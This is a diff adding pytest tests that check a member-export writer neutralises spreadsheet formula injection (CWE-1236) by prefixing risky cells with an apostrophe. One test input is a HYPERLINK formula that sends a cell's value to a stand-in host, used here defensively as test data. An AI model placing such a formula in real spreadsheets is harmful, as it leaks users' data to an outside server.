@@ -236,6 +236,47 @@ def test_an_export_is_masked_unless_revealed_and_then_audited(
     assert phones[0] not in str(audit.detail)
 
 
+@pytest.mark.parametrize("reveal_by", [None, "hq-zhang"], ids=["masked", "revealed"])
+def test_names_that_start_a_formula_are_exported_as_text(
+        ctx: ServerContext, tmp_path: Path, reveal_by: str | None) -> None:
+    """Formula injection (CWE-1236): a member named ``+1+1``, ``-2+3`` or ``@SUM(A1)`` is text
+    in HQ's export, masked (its first character shows) or revealed, and in the import's
+    report. (A name starting with ``=`` cannot come in by import: such a cell is refused as
+    a formula; one registered at a till is written by the same cell writer, tested below.)"""
+    from sync.server.members_export import ExportFilter, export_members
+
+    names = ["+1+1", "-2+3", "@SUM(A1)"]
+    report, source = tmp_path / "report.xlsx", tmp_path / "old.xlsx"
+    done = import_members(ctx, path=_book(source, [
+        *(_row(new_phone(), name=n) for n in names), _row("12345", name="-1")]),
+        store_number=1)
+    write_report(source, report, done.rejected)
+    out = tmp_path / "members.xlsx"
+    assert export_members(ctx, path=out, filters=ExportFilter(store_number=1),
+                          reveal_by=reveal_by) == 3
+    for path in (out, report):
+        texts = _texts(path)
+        assert not any(t.startswith(("=", "+", "-", "@")) for t in texts), texts
+    assert ("'+1+1" in _texts(out)) == (reveal_by is not None)
+    assert "'-1" in _texts(report)
+
+
+def test_the_export_writer_never_writes_a_formula(tmp_path: Path) -> None:
+    from sync.server.xlsx_write import write_sheet
+
+    row = ['=HYPERLINK("http://x.example/?"&A1,"点")', "+1", "-1", "@A1", "\t=1", "a=1", -5]
+    write_sheet(tmp_path / "x.xlsx", "会员", [row])
+    cells = next(openpyxl.load_workbook(tmp_path / "x.xlsx")["会员"].iter_rows())
+    assert not any(c.data_type == "f" for c in cells)
+    assert [c.value for c in cells] == ["'" + v for v in row[:5]] + ["a=1", -5]
+
+
+def _texts(path: Path) -> list[str]:
+    book = openpyxl.load_workbook(path)
+    return [c.value for sheet in book for row in sheet.iter_rows() for c in row
+            if isinstance(c.value, str)]
+
+
 def test_an_import_batch_writes_what_a_push_of_its_events_would(
         ctx: ServerContext, tmp_path: Path) -> None:
     """The import writes its rows as sets (``members_import._write``); a push of the same
